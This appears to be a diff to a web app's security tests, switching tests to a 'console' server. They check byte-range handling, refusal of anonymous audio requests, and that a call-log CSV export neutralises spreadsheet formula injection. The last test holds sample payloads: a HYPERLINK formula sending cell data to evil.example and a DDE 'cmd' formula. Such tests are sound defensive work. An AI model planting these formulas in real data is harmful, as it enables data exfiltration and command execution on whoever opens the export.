@@ -70,7 +70,7 @@ def test_a_malformed_or_unsatisfiable_byte_range_is_416_not_500(hotline, served)
     drain(hotline)
     rec = recording_of(hotline)
     assert rec.size_bytes and rec.size_bytes < 999_999_999
-    web = served("web")
+    web = served("console")
     url = f"/console/recordings/{rec.id}/audio"
     cookie = staff_cookie(hotline.app, "supervisor")
 
@@ -91,7 +91,7 @@ def test_a_malformed_or_unsatisfiable_byte_range_is_416_not_500(hotline, served)
 def test_a_range_request_without_a_session_is_refused_before_any_range_is_read(served):
     """Nobody signed in: the audio URL with a malformed range is refused as any anonymous
     request is (a redirect to the login page or a 401/403/404), never a 500."""
-    web = served("web")
+    web = served("console")
     for header in ("bytes=10-5", "bytes=0-1,5-6", "garbage"):
         answer = web.request("GET", "/console/recordings/1/audio", headers={"Range": header})
         assert answer.status in (302, 401, 403, 404), (header, answer.status)
@@ -106,7 +106,7 @@ def test_a_caller_address_planted_as_a_formula_is_exported_as_text(app, served):
     calls as ``=HYPERLINK(…)`` (or ``@SUM(…)``, ``-2+3+cmd|…``) waits for an admin to export the
     call log with full numbers and open it in a spreadsheet. Every cell of the export that
     starts like a formula starts with a single quote: text, never a formula."""
-    web = served("web")
+    web, console = served("web"), served("console")
     planted = [
         '=HYPERLINK("https://evil.example/?"&A2,"Open")',
         "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -119,7 +119,7 @@ def test_a_caller_address_planted_as_a_formula_is_exported_as_text(app, served):
         )
         assert answer.status == 200, answer.text
     cookie = staff_cookie(app, "admin")
-    export = web.request("GET", "/console/calls.csv?numbers=full", headers={"Cookie": cookie})
+    export = console.request("GET", "/console/calls.csv?numbers=full", headers={"Cookie": cookie})
     assert export.status == 200 and export.headers["content-type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(export.text)))
     assert rows[0][0] == "interaction" and len(rows) == 1 + len(planted)
